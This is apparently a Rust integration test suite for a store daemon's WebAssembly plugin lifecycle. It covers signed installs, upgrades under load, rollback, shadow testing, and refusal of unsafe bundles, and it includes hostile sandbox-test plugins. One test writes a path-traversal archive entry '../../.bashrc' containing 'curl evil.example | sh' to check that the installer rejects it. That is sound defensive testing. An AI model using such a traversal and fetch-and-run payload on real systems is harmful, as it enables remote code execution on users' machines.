//! The install lifecycle end to end: a real `linli-registry` with published versions, a
//! real `linli daemon`, and the `linli` CLI installing by requirement, upgrading while
//! quotes stream in (none may fail), rolling back, downgrading only when asked, and
//! refusing every bundle a store must not run — with nothing changed.

use linli_tests::{Daemon, Publishers, Registry, hostile, linli, reference};
use serde_json::{Value, json};
use std::path::Path;
use std::process::Command;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};

fn unchanged(text: String) -> String {
    text
}

/// The markdown manifest with the hostile plugins' `mode` setting declared: a store
/// refuses settings a plugin does not declare.
fn declares_mode(manifest: String) -> String {
    manifest + "\n[config.mode]\ntype = \"string\"\ndescription = \"How to misbehave\"\n"
}

/// A daemon (simulator off) resolving against `registry`.
fn daemon(dir: &Path, registry: &str) -> Daemon {
    let config = dir.join("linli.toml");
    std::fs::write(
        &config,
        format!("[sensors]\nsimulator = false\n[plugins]\nregistry = \"{registry}\"\n"),
    )
    .unwrap();
    Daemon::start_with(&dir.join("store"), &["--config", config.to_str().unwrap()])
}

/// Run a `linli plugin` lifecycle command against the daemon; Ok(JSON) or Err(stderr).
fn plugin(daemon: &Daemon, store: &Path, args: &[&str]) -> Result<Value, String> {
    let output = Command::new(linli())
        .arg("plugin")
        .args(args)
        .args(["--daemon", &daemon.url, "--data-dir"])
        .arg(store)
        .output()
        .unwrap();
    if output.status.success() {
        Ok(serde_json::from_slice(&output.stdout).unwrap())
    } else {
        assert_eq!(output.status.code(), Some(2));
        Err(String::from_utf8_lossy(&output.stderr).into_owned())
    }
}

fn trust(store: &Path, public_key: &str) {
    let output = Command::new(linli())
        .args(["trust", "add", public_key, "--data-dir"])
        .arg(store)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// The elderly-care adjustments the install `markdown` made to a quote.
fn care_discounts(daemon: &Daemon) -> usize {
    let basket = json!({
        "lines": [{"sku": "RICE-5KG", "qty": 1}],
        "customer": {"pseudonym": "p-1", "elderly_or_disabled": true, "tier": "None"}
    });
    let (status, quote) = daemon.post("/v1/checkout/quote", &basket);
    assert_eq!(status, 200, "{quote}");
    quote["adjustments"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|entry| entry["install"] == "markdown")
        .count()
}

fn install_of<'a>(plugins: &'a Value, id: &str) -> &'a Value {
    plugins
        .as_array()
        .unwrap()
        .iter()
        .find(|install| install["id"] == id)
        .unwrap_or(&Value::Null)
}

#[test]
fn a_plugin_installs_by_requirement_upgrades_under_load_and_rolls_back() {
    let publishers = Publishers::new(&[("green-lane", "alice", "green-lane")], &[]);
    let registry = Registry::start(&publishers.registry_data(), &[]);
    // 1.0.0 prices honestly and changes nothing; 1.1.0 and 1.2.0 are the markdown
    // policy (with its elderly-care discount); 1.2.0 is yanked.
    let flat = std::fs::read(hostile("pricing")).unwrap();
    let markdown = reference("markdown-pricing").wasm;
    for (version, wasm) in [
        ("1.0.0", &flat[..]),
        ("1.1.0", markdown),
        ("1.2.0", markdown),
    ] {
        let bundle = publishers.bundle(
            "green-lane/markdown",
            version,
            wasm,
            Some("alice"),
            unchanged,
        );
        publishers.publish(&registry.url, &bundle, "alice").unwrap();
    }
    let yanked = Command::new(linli())
        .args([
            "plugin",
            "yank",
            "green-lane/markdown@1.2.0",
            "--registry",
            &registry.url,
            "--key",
        ])
        .arg(publishers.key_file("alice", false))
        .output()
        .unwrap();
    assert!(yanked.status.success());

    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let daemon = daemon(dir.path(), &registry.url);
    // Only the installs of this test price.
    let (status, _) = daemon.post("/v1/plugins/markdown-pricing/disable", &json!({}));
    assert_eq!(status, 200);

    let err = plugin(&daemon, &store, &["install", "green-lane/markdown@=1.0.0"]).unwrap_err();
    assert!(err.contains("does not trust"), "{err}");
    trust(&store, &publishers.key_file("alice", true));
    let installed = plugin(&daemon, &store, &["install", "green-lane/markdown@=1.0.0"]).unwrap();
    assert_eq!(installed["install"], "markdown");
    assert_eq!(installed["version"], "1.0.0");
    assert_eq!(care_discounts(&daemon), 0);

    // Upgrade while quotes stream in: none fails, and new quotes get the new version.
    let stop = AtomicBool::new(false);
    let (served, failed) = (AtomicUsize::new(0), AtomicUsize::new(0));
    std::thread::scope(|scope| {
        for _ in 0..2 {
            scope.spawn(|| {
                let basket =
                    json!({"lines": [{"sku": "RICE-5KG", "qty": 1}, {"sku": "MILK-1L", "qty": 2}]});
                while !stop.load(Ordering::Relaxed) {
                    let (status, _) = daemon.post("/v1/checkout/quote", &basket);
                    served.fetch_add(1, Ordering::Relaxed);
                    if status != 200 {
                        failed.fetch_add(1, Ordering::Relaxed);
                    }
                }
            });
        }
        std::thread::sleep(std::time::Duration::from_millis(300));
        let upgraded = plugin(&daemon, &store, &["upgrade", "green-lane/markdown@^1"]);
        std::thread::sleep(std::time::Duration::from_millis(300));
        stop.store(true, Ordering::Relaxed);
        let upgraded = upgraded.unwrap();
        assert_eq!(upgraded["version"], "1.1.0", "the newest not yanked");
        assert_eq!(upgraded["previous"], "1.0.0");
    });
    assert!(served.load(Ordering::Relaxed) > 10, "quotes kept coming");
    assert_eq!(
        failed.load(Ordering::Relaxed),
        0,
        "no quote failed during the swap"
    );
    assert_eq!(care_discounts(&daemon), 1);

    // Rollback, and back again.
    let rolled = plugin(&daemon, &store, &["rollback", "markdown"]).unwrap();
    assert_eq!(rolled["version"], "1.0.0");
    assert_eq!(care_discounts(&daemon), 0);
    plugin(&daemon, &store, &["rollback", "markdown"]).unwrap();
    assert_eq!(care_discounts(&daemon), 1);

    // Older versions only on request; yanked ones only asked for exactly and allowed.
    let err = plugin(&daemon, &store, &["install", "green-lane/markdown@=1.0.0"]).unwrap_err();
    assert!(err.contains("--allow-downgrade"), "{err}");
    let err = plugin(&daemon, &store, &["install", "green-lane/markdown@=1.1.0"]).unwrap_err();
    assert!(err.contains("already runs"), "{err}");
    let err = plugin(&daemon, &store, &["install", "green-lane/markdown@=1.2.0"]).unwrap_err();
    assert!(err.contains("yanked"), "{err}");
    let err = plugin(&daemon, &store, &["install", "green-lane/markdown@^3"]).unwrap_err();
    assert!(err.contains("no version"), "{err}");
    let forced = plugin(
        &daemon,
        &store,
        &["install", "green-lane/markdown@=1.2.0", "--allow-yanked"],
    )
    .unwrap();
    assert_eq!(forced["version"], "1.2.0");
    let down = plugin(
        &daemon,
        &store,
        &["install", "green-lane/markdown@=1.0.0", "--allow-downgrade"],
    )
    .unwrap();
    assert_eq!(down["version"], "1.0.0");
    let (_, versions) = daemon.get("/v1/plugins/markdown/versions");
    let kept: Vec<&str> = versions
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["version"].as_str().unwrap())
        .collect();
    assert_eq!(kept.len(), 3, "{versions}");

    // The store remembers what runs.
    daemon.stop();
    let daemon = self::daemon(dir.path(), &registry.url);
    let (_, plugins) = daemon.get("/v1/plugins");
    let markdown = install_of(&plugins, "markdown");
    assert_eq!(markdown["version"], "1.0.0", "{plugins}");
    assert_eq!(markdown["previous"], "1.2.0");
    assert_eq!(markdown["plugin"], "green-lane/markdown");
    assert_eq!(install_of(&plugins, "markdown-pricing")["enabled"], false);
    assert_eq!(install_of(&plugins, "markdown-pricing")["version"], "0.1.0");
}

#[test]
fn bundles_a_store_must_not_run_are_refused_and_change_nothing() {
    let publishers = Publishers::new(&[("green-lane", "alice", "green-lane")], &["stranger"]);
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let daemon = daemon(dir.path(), "http://127.0.0.1:9");
    trust(&store, &publishers.key_file("alice", true));
    let markdown = reference("markdown-pricing").wasm;
    let (_, before) = daemon.get("/v1/plugins");

    let cases: Vec<(std::path::PathBuf, &str)> = vec![
        (
            publishers.bundle("green-lane/x", "1.0.0", markdown, None, unchanged),
            "not signed",
        ),
        (
            publishers.bundle(
                "green-lane/x",
                "1.0.0",
                markdown,
                Some("stranger"),
                unchanged,
            ),
            "does not trust",
        ),
        (
            publishers.bundle("green-lane/x", "1.0.0", markdown, Some("alice"), |text| {
                text.replace("world = \"pricing\"", "world = \"presale\"")
            }),
            "not `presale`",
        ),
        (
            publishers.bundle("green-lane/x", "1.0.0", markdown, Some("alice"), |text| {
                text.replace("capabilities = []", "capabilities = [\"sales-read\"]")
            }),
            "requests `sales-read`, which this store does not grant",
        ),
        (
            publishers.bundle("green-lane/x", "1.0.0", markdown, Some("alice"), |text| {
                text.replace("policy = \"^0.1\"", "policy = \"^0.2\"")
            }),
            "needs linli:policy ^0.2",
        ),
        (
            publishers.bundle(
                "green-lane/x",
                "1.0.0",
                &std::fs::read(hostile("kv-counter")).unwrap(),
                Some("alice"),
                unchanged,
            ),
            "uses kv, which plugin.toml does not request",
        ),
    ];
    for (bundle, reason) in &cases {
        let err = plugin(&daemon, &store, &["install", bundle.to_str().unwrap()]).unwrap_err();
        assert!(err.contains(reason), "{reason}: {err}");
    }
    // Tampered after signing, and not a bundle at all.
    let good = publishers.bundle("green-lane/x", "1.0.0", markdown, Some("alice"), unchanged);
    let mut tampered = linli_sdk::bundle::Bundle::read(&std::fs::read(&good).unwrap()).unwrap();
    tampered.wasm[64] ^= 0x10;
    let path = dir.path().join("tampered.linli");
    std::fs::write(&path, tampered.to_archive().unwrap()).unwrap();
    let err = plugin(&daemon, &store, &["install", path.to_str().unwrap()]).unwrap_err();
    assert!(err.contains("changed after signing"), "{err}");
    // An archive that tries to write outside its folder.
    let mut archive = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::default(),
    ));
    for (name, bytes) in [
        ("plugin.toml", &tampered.manifest_bytes[..]),
        ("../../.bashrc", b"curl evil.example | sh"),
    ] {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
        header.set_cksum();
        archive.append(&header, bytes).unwrap();
    }
    std::fs::write(&path, archive.into_inner().unwrap().finish().unwrap()).unwrap();
    let err = plugin(&daemon, &store, &["install", path.to_str().unwrap()]).unwrap_err();
    assert!(err.contains("unexpected entry \"../../.bashrc\""), "{err}");
    std::fs::write(&path, b"\x1f\x8b garbage").unwrap();
    let err = plugin(&daemon, &store, &["install", path.to_str().unwrap()]).unwrap_err();
    assert!(err.contains("not a bundle"), "{err}");
    // The registry is down: the store says so.
    let err = plugin(&daemon, &store, &["install", "green-lane/x@^1"]).unwrap_err();
    assert!(err.contains("registry"), "{err}");

    let (_, after) = daemon.get("/v1/plugins");
    assert_eq!(before, after, "nothing changed");
    let (status, _) = daemon.get("/v1/plugins/x/versions");
    assert_eq!(status, 404);

    // A good bundle installs from its file, under the id asked for, with the limits it
    // asks for as far as the store allows (fuel lowered; the deadline stays the store's).
    let limited = publishers.bundle("green-lane/x", "1.0.1", markdown, Some("alice"), |text| {
        text + "\n[limits]\nfuel = 2000000\ndeadline-ms = 5000\n"
    });
    let installed = plugin(
        &daemon,
        &store,
        &["install", limited.to_str().unwrap(), "--as", "local-x"],
    )
    .unwrap();
    assert_eq!(installed["install"], "local-x");
    assert_eq!(installed["status"]["limits"]["fuel"], 2_000_000);
    assert_eq!(installed["status"]["limits"]["deadline-ms"], 50);
    let (status, body) = daemon.post("/v1/plugins/local-x/rollback", &json!({}));
    assert_eq!(status, 409, "{body}");
}

#[test]
fn a_candidate_shadows_the_active_version_and_its_differences_are_reported_before_promotion() {
    let publishers = Publishers::new(&[("green-lane", "alice", "green-lane")], &[]);
    let registry = Registry::start(&publishers.registry_data(), &[]);
    let flat = std::fs::read(hostile("pricing")).unwrap();
    let markdown = reference("markdown-pricing").wasm;
    for (version, wasm) in [("1.0.0", &flat[..]), ("2.0.0", markdown)] {
        let bundle = publishers.bundle(
            "green-lane/markdown",
            version,
            wasm,
            Some("alice"),
            unchanged,
        );
        publishers.publish(&registry.url, &bundle, "alice").unwrap();
    }
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let daemon = daemon(dir.path(), &registry.url);
    trust(&store, &publishers.key_file("alice", true));
    let (status, _) = daemon.post("/v1/plugins/markdown-pricing/disable", &json!({}));
    assert_eq!(status, 200);
    plugin(&daemon, &store, &["install", "green-lane/markdown@=1.0.0"]).unwrap();

    let err = plugin(
        &daemon,
        &store,
        &[
            "shadow",
            "green-lane/markdown@=1.0.0",
            "--install",
            "markdown",
        ],
    )
    .unwrap_err();
    assert!(err.contains("already runs"), "{err}");
    let started = plugin(
        &daemon,
        &store,
        &["shadow", "green-lane/markdown@^2", "--install", "markdown"],
    )
    .unwrap();
    assert_eq!(started["counts"]["candidate"], "2.0.0");

    // The active version decides: no care discount yet, however often we ask.
    for _ in 0..5 {
        assert_eq!(care_discounts(&daemon), 0);
    }
    // A basket the two versions agree on (no elderly customer, nothing near expiry).
    let plain = json!({"lines": [{"sku": "RICE-5KG", "qty": 1}]});
    let (status, _) = daemon.post("/v1/checkout/quote", &plain);
    assert_eq!(status, 200);

    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    let report = loop {
        let report = plugin(&daemon, &store, &["shadow-report", "markdown"]).unwrap();
        if report["counts"]["compared"].as_u64() >= Some(6) {
            break report;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the candidate never caught up: {report}"
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    };
    assert_eq!(report["counts"]["differing"], 5, "{report}");
    assert_eq!(report["kept"], 5);
    let difference = &report["differences"][0];
    assert_eq!(
        difference["call"]["quote"]["customer"]["elderly_or_disabled"], true,
        "{difference}"
    );
    assert_eq!(difference["active"]["ok"]["adjustments"], json!([]));
    assert_eq!(
        difference["shadow"]["ok"]["adjustments"]
            .as_array()
            .unwrap()
            .len(),
        1
    );

    let promoted = plugin(&daemon, &store, &["promote", "markdown"]).unwrap();
    assert_eq!(promoted["version"], "2.0.0");
    assert_eq!(promoted["previous"], "1.0.0");
    assert_eq!(care_discounts(&daemon), 1);
    let err = plugin(&daemon, &store, &["promote", "markdown"]).unwrap_err();
    assert!(err.contains("no candidate"), "{err}");
    let (_, plugins) = daemon.get("/v1/plugins");
    assert_eq!(install_of(&plugins, "markdown")["shadow"], Value::Null);

    // Changing the active version stops a candidate, here and after a restart.
    plugin(
        &daemon,
        &store,
        &[
            "shadow",
            "green-lane/markdown@=1.0.0",
            "--install",
            "markdown",
        ],
    )
    .unwrap();
    let rolled = plugin(&daemon, &store, &["rollback", "markdown"]).unwrap();
    assert_eq!(rolled["version"], "1.0.0");
    let report = plugin(&daemon, &store, &["shadow-report", "markdown"]).unwrap();
    assert_eq!(report["counts"], Value::Null, "{report}");
    daemon.stop();
    let daemon = self::daemon(dir.path(), &registry.url);
    let (_, plugins) = daemon.get("/v1/plugins");
    assert_eq!(install_of(&plugins, "markdown")["shadow"], Value::Null);
}

#[test]
fn a_store_installs_from_a_mirror_of_another_alliances_registry() {
    let publishers = Publishers::new(&[("green-lane", "alice", "green-lane")], &[]);
    let origin = Registry::start(&publishers.registry_data(), &[]);
    let markdown = reference("markdown-pricing").wasm;
    let bundle = publishers.bundle(
        "green-lane/markdown",
        "1.3.0",
        markdown,
        Some("alice"),
        unchanged,
    );
    publishers.publish(&origin.url, &bundle, "alice").unwrap();
    let mirror = Registry::start(
        &publishers.dir.path().join("mirror"),
        &["--mirror", &origin.url, "--mirror-interval", "1"],
    );
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while mirror.get("/v1/plugins/green-lane/markdown").0 != 200 {
        assert!(
            std::time::Instant::now() < deadline,
            "the mirror did not catch up"
        );
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
    // The origin goes away; the store installs from the mirror alone.
    drop(origin);
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let daemon = daemon(dir.path(), &mirror.url);
    trust(&store, &publishers.key_file("alice", true));
    let installed = plugin(&daemon, &store, &["install", "green-lane/markdown@^1"]).unwrap();
    assert_eq!(installed["version"], "1.3.0");
    assert_eq!(
        installed["signer"],
        publishers.secret("alice").public().id()
    );
}

/// A store that installed the hostile pricing plugin (its `mode` setting declared) from
/// a registry as `green-lane/NAME` 1.0.0, under the install id NAME; the registry and
/// the data directory live as long as it.
struct HostileStore {
    daemon: Daemon,
    _dir: tempfile::TempDir,
    _registry: Registry,
    _publishers: Publishers,
}

impl HostileStore {
    fn install(name: &str) -> HostileStore {
        let publishers = Publishers::new(&[("green-lane", "alice", "green-lane")], &[]);
        let registry = Registry::start(&publishers.registry_data(), &[]);
        let wasm = std::fs::read(hostile("pricing")).unwrap();
        let plugin_name = format!("green-lane/{name}");
        let bundle = publishers.bundle(&plugin_name, "1.0.0", &wasm, Some("alice"), declares_mode);
        publishers.publish(&registry.url, &bundle, "alice").unwrap();
        let dir = tempfile::tempdir().unwrap();
        let store = dir.path().join("store");
        let daemon = daemon(dir.path(), &registry.url);
        trust(&store, &publishers.key_file("alice", true));
        plugin(
            &daemon,
            &store,
            &["install", &format!("{plugin_name}@=1.0.0")],
        )
        .unwrap();
        HostileStore {
            daemon,
            _dir: dir,
            _registry: registry,
            _publishers: publishers,
        }
    }
}

#[test]
fn a_pricing_install_that_loops_on_every_quote_is_skipped_while_the_daemon_keeps_serving() {
    let hostile = HostileStore::install("slow");
    let daemon = &hostile.daemon;
    // Calls the host until its fuel or its deadline (50 ms) runs out, on every quote.
    let (status, body) = daemon.put("/v1/plugins/slow/config", &json!({"mode": "host-loop"}));
    assert_eq!(status, 200, "{body}");

    // Quotes from two tills while a third client keeps asking for /healthz.
    let quotes_done = AtomicBool::new(false);
    let health_checks = AtomicUsize::new(0);
    let quotes: Vec<Value> = std::thread::scope(|scope| {
        let checker = scope.spawn(|| {
            while !quotes_done.load(Ordering::Relaxed) {
                let (status, body) = daemon.get("/healthz");
                assert_eq!(status, 200, "{body}");
                health_checks.fetch_add(1, Ordering::Relaxed);
            }
        });
        let tills: Vec<_> = (0..2)
            .map(|_| {
                scope.spawn(|| {
                    let basket = json!({"lines": [{"sku": "RICE-5KG", "qty": 1}]});
                    (0..6)
                        .map(|_| {
                            let (status, quote) = daemon.post("/v1/checkout/quote", &basket);
                            assert_eq!(status, 200, "{quote}");
                            quote
                        })
                        .collect::<Vec<_>>()
                })
            })
            .collect();
        let quotes = tills
            .into_iter()
            .flat_map(|till| till.join().unwrap())
            .collect();
        quotes_done.store(true, Ordering::Relaxed);
        checker.join().unwrap();
        quotes
    });
    assert!(health_checks.load(Ordering::Relaxed) > 0);

    // The slow install was skipped, with what stopped it, until the breaker tripped;
    // every quote still priced the basket.
    let skipped: Vec<&Value> = quotes
        .iter()
        .filter_map(|quote| quote["skipped"].as_array()?.first())
        .collect();
    // Five in a row trip it; the other till's call in flight at that moment fails too.
    assert!((5..=6).contains(&skipped.len()), "{quotes:?}");
    for entry in &skipped {
        assert_eq!(entry["install"], "slow");
        let error = entry["error"].as_str().unwrap();
        assert!(
            error.contains("deadline") || error.contains("fuel"),
            "{entry}"
        );
    }
    assert!(
        quotes
            .iter()
            .all(|quote| quote["total"] == quote["shelf_total"])
    );
    let (_, plugins) = daemon.get("/v1/plugins");
    let slow = install_of(&plugins, "slow");
    assert_eq!(slow["tripped"], true, "{slow}");
    assert_eq!(slow["failures"], skipped.len(), "{slow}");
}

#[test]
fn a_setting_the_plugin_refuses_skips_it_at_checkout_and_the_sale_goes_through() {
    // Its manifest says `mode` is any string; the plugin refuses all but a few.
    let hostile = HostileStore::install("picky");
    let daemon = &hostile.daemon;
    let (status, body) = daemon.put("/v1/plugins/picky/config", &json!({"mode": "typo"}));
    assert_eq!(status, 200, "{body}");

    let basket = json!({"lines": [{"sku": "RICE-5KG", "qty": 1}]});
    let (status, sale) = daemon.post("/v1/checkout/commit", &basket);
    assert_eq!(status, 201, "the till keeps selling: {sale}");
    assert_eq!(sale["refusals"], json!([]), "{sale}");
    let skipped = sale["skipped"].as_array().unwrap();
    assert_eq!(skipped.len(), 1, "{sale}");
    assert_eq!(skipped[0]["install"], "picky");
    let error = skipped[0]["error"].as_str().unwrap();
    assert!(
        error.contains("bad setting") && error.contains("typo"),
        "{error}"
    );
    let (_, plugins) = daemon.get("/v1/plugins");
    let picky = install_of(&plugins, "picky");
    assert_eq!(picky["failures"], 1, "{picky}");
    assert!(
        picky["last_error"]
            .as_str()
            .unwrap()
            .contains("bad setting"),
        "{picky}"
    );
    let (_, metrics) = daemon.get("/metrics");
    assert!(
        metrics
            .as_str()
            .unwrap()
            .contains("linli_plugin_failures_total{install=\"picky\",world=\"pricing\"} 1"),
        "{metrics}"
    );
}

/// `wasm` with a custom section of `bytes` bytes that do not compress: a component as
/// large as a real one with its debug info or data.
fn padded(wasm: &[u8], bytes: usize) -> Vec<u8> {
    fn leb128(mut value: usize, out: &mut Vec<u8>) {
        loop {
            let byte = (value & 0x7f) as u8;
            value >>= 7;
            if value == 0 {
                out.push(byte);
                return;
            }
            out.push(byte | 0x80);
        }
    }
    let name = b"padding";
    let mut payload = Vec::with_capacity(bytes);
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    while payload.len() < bytes {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        payload.extend_from_slice(&state.to_le_bytes());
    }
    payload.truncate(bytes);
    let mut section = Vec::new();
    leb128(name.len(), &mut section);
    section.extend_from_slice(name);
    section.extend_from_slice(&payload);
    let mut padded = wasm.to_vec();
    padded.push(0);
    leb128(section.len(), &mut padded);
    padded.extend_from_slice(&section);
    padded
}

#[test]
fn a_bundle_of_megabytes_installs_from_a_file_and_one_past_the_format_is_refused_as_json() {
    let publishers = Publishers::new(&[("green-lane", "alice", "green-lane")], &[]);
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let daemon = daemon(dir.path(), "http://127.0.0.1:9");
    trust(&store, &publishers.key_file("alice", true));
    let wasm = padded(reference("markdown-pricing").wasm, 3 << 20);
    let bundle = publishers.bundle("green-lane/big", "1.0.0", &wasm, Some("alice"), unchanged);
    let size = std::fs::metadata(&bundle).unwrap().len();
    assert!(size > 3 << 20, "the bundle is {size} bytes");
    let installed = plugin(&daemon, &store, &["install", bundle.to_str().unwrap()]).unwrap();
    assert_eq!(installed["install"], "big");
    assert_eq!(installed["version"], "1.0.0");

    // Past the most a bundle may be: refused before it is read, in the API's JSON.
    let (line, head, body) = daemon.raw(
        format!(
            "POST /v1/plugins/install/bundle HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {}\r\n\
             content-type: application/octet-stream\r\ncontent-length: {}\r\n\
             expect: 100-continue\r\n\r\n",
            daemon.token,
            linli_sdk::bundle::MAX_BUNDLE_BYTES + 1
        )
        .as_bytes(),
    );
    assert!(line.starts_with("HTTP/1.1 413"), "{line}");
    assert!(head.contains("content-type: application/json"), "{head}");
    let body: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(body["code"], "payload_too_large", "{body}");
    let bad_id = daemon
        .request("POST", "/v1/plugins/install/bundle?as=Big%20One")
        .header("authorization", format!("Bearer {}", daemon.token))
        .body(std::fs::read(&bundle).unwrap())
        .unwrap();
    let (status, _, body) = daemon.run(bad_id);
    assert_eq!(status, 422, "{body}");
    assert!(
        body["error"].as_str().unwrap().starts_with("as: "),
        "{body}"
    );
}

#[test]
fn components_that_cannot_run_are_refused_at_install_and_each_install_is_named_in_its_errors() {
    let publishers = Publishers::new(&[("green-lane", "alice", "green-lane")], &[]);
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let daemon = daemon(dir.path(), "http://127.0.0.1:9");
    trust(&store, &publishers.key_file("alice", true));
    let bundle_of = |plugin: &str, name: &str| {
        let wasm = match plugin {
            "start-loop" => linli_tests::start_loop_component(),
            plugin => std::fs::read(hostile(plugin)).unwrap(),
        };
        let bundle = publishers.bundle(name, "1.0.0", &wasm, Some("alice"), declares_mode);
        bundle.display().to_string()
    };

    // The pricing export's name with another type: refused now, not at the first quote.
    let wrong = bundle_of("wrong-signature", "green-lane/wrong");
    let err = plugin(&daemon, &store, &["install", &wrong]).unwrap_err();
    assert!(err.contains("exports do not match"), "{err}");
    // Start-up code that never ends: stopped and refused, not installed to fail later.
    let stuck = bundle_of("start-loop", "green-lane/stuck");
    let err = plugin(&daemon, &store, &["install", &stuck]).unwrap_err();
    assert!(err.contains("does not start"), "{err}");
    let (_, plugins) = daemon.get("/v1/plugins");
    assert_eq!(install_of(&plugins, "wrong"), &Value::Null);
    assert_eq!(install_of(&plugins, "stuck"), &Value::Null);

    // One bundle, two installs misbehaving differently: each error names its install.
    let hostile_bundle = bundle_of("pricing", "green-lane/hostile");
    for (id, mode) in [("hostile-loop", "spin"), ("hostile-bomb", "memory-bomb")] {
        plugin(&daemon, &store, &["install", &hostile_bundle, "--as", id]).unwrap();
        let (status, body) =
            daemon.put(&format!("/v1/plugins/{id}/config"), &json!({"mode": mode}));
        assert_eq!(status, 200, "{body}");
    }
    let basket = json!({"lines": [{"sku": "RICE-5KG", "qty": 1}]});
    let (status, quote) = daemon.post("/v1/checkout/quote", &basket);
    assert_eq!(status, 200, "{quote}");
    let stopped_by: [(&str, &[&str]); 2] = [
        ("hostile-loop", &["fuel", "deadline"]),
        ("hostile-bomb", &["memory"]),
    ];
    for (id, what) in stopped_by {
        let skipped = quote["skipped"].as_array().unwrap();
        let entry = skipped.iter().find(|entry| entry["install"] == id).unwrap();
        let error = entry["error"].as_str().unwrap();
        assert!(
            error.starts_with(&format!("plugin {id} (green-lane/hostile@1.0.0): ")),
            "{error}"
        );
        assert!(what.iter().any(|what| error.contains(what)), "{error}");
        let (_, plugins) = daemon.get("/v1/plugins");
        let last_error = install_of(&plugins, id)["last_error"]
            .as_str()
            .unwrap()
            .to_string();
        assert_eq!(last_error, error);
    }
}

#[test]
fn components_over_the_size_cap_or_the_compile_timeout_are_refused_and_the_daemon_serves_on() {
    let publishers = Publishers::new(&[("green-lane", "alice", "green-lane")], &[]);
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    // A first start compiles the reference plugins into the store's cache.
    daemon(dir.path(), "http://127.0.0.1:9").stop();
    trust(&store, &publishers.key_file("alice", true));
    let wasm = std::fs::read(hostile("kv-counter")).unwrap();
    let with_kv =
        |manifest: String| manifest.replace("capabilities = [", "capabilities = [\"kv\", ");
    let bundle = publishers.bundle("green-lane/counter", "1.0.0", &wasm, Some("alice"), with_kv);
    let bundle = bundle.display().to_string();

    let restart = |plugins: &str| {
        let config = dir.path().join("linli.toml");
        std::fs::write(
            &config,
            format!("[sensors]\nsimulator = false\n[plugins]\n{plugins}\n"),
        )
        .unwrap();
        Daemon::start_with(&store, &["--config", config.to_str().unwrap()])
    };
    let small = restart(&format!("max-component-bytes = {}", wasm.len() - 1));
    let err = plugin(&small, &store, &["install", &bundle]).unwrap_err();
    assert!(err.contains("max-component-bytes"), "{err}");
    small.stop();

    // Compiling that cannot finish in time is stopped; the till is not held up.
    let hasty = restart("compile-timeout-ms = 1");
    let err = plugin(&hasty, &store, &["install", &bundle]).unwrap_err();
    assert!(err.contains("compile-timeout-ms"), "{err}");
    let (status, quote) = hasty.post(
        "/v1/checkout/quote",
        &json!({"lines": [{"sku": "RICE-5KG", "qty": 1}]}),
    );
    assert_eq!(status, 200, "{quote}");
    hasty.stop();

    // With the defaults the same bundle installs, and its kv quota shows.
    let fine = restart("");
    plugin(&fine, &store, &["install", &bundle]).unwrap();
    let (_, plugins) = fine.get("/v1/plugins");
    let counter = install_of(&plugins, "counter");
    assert_eq!(counter["limits"]["kv-bytes"], 4 << 20, "{counter}");
    assert_eq!(counter["kv"]["keys"], 0, "{counter}");
}

/// The CLI's hints name what to check only where that is the trouble: whether the
/// daemon runs when nothing answered, how to name another registry when the daemon
/// could not reach its registry; a refusal from a daemon that answered is its words.
#[test]
fn cli_errors_hint_at_the_daemon_or_the_registry_only_when_that_is_the_trouble() {
    let dir = tempfile::tempdir().unwrap();
    let nowhere = format!("http://127.0.0.1:{}", linli_tests::free_port());
    let daemon = daemon(dir.path(), &nowhere);
    let store = dir.path().join("store");
    let not_running = "is `linli daemon` running";

    for args in [
        &["rollback", "nope"][..],
        &["rollback", "markdown-pricing"],
        &["install", "not-a-requirement@@"],
    ] {
        let err = plugin(&daemon, &store, args).unwrap_err();
        assert!(err.contains("the daemon refused (4"), "{args:?}: {err}");
        assert!(!err.contains(not_running), "{args:?}: {err}");
        assert!(!err.contains("--registry"), "{args:?}: {err}");
    }

    // The daemon answered, but its registry (from its config, or asked for) did not.
    let err = plugin(&daemon, &store, &["install", "green-lane/markdown@^1"]).unwrap_err();
    assert!(err.contains("(502"), "{err}");
    assert!(err.contains("--registry"), "{err}");
    assert!(err.contains("[plugins] registry"), "{err}");
    assert!(!err.contains(not_running), "{err}");
    let err = plugin(
        &daemon,
        &store,
        &["install", "green-lane/markdown@^1", "--registry", &nowhere],
    )
    .unwrap_err();
    assert!(err.contains(&format!("the registry {nowhere}")), "{err}");
    assert!(err.contains("--registry"), "{err}");
    assert!(!err.contains(not_running), "{err}");

    // No daemon there at all.
    let gone = format!("http://127.0.0.1:{}", linli_tests::free_port());
    let output = Command::new(linli())
        .args(["plugin", "rollback", "markdown-pricing", "--daemon", &gone])
        .arg("--data-dir")
        .arg(&store)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let err = String::from_utf8_lossy(&output.stderr);
    assert!(err.contains(&format!("{not_running} at {gone}?")), "{err}");
}
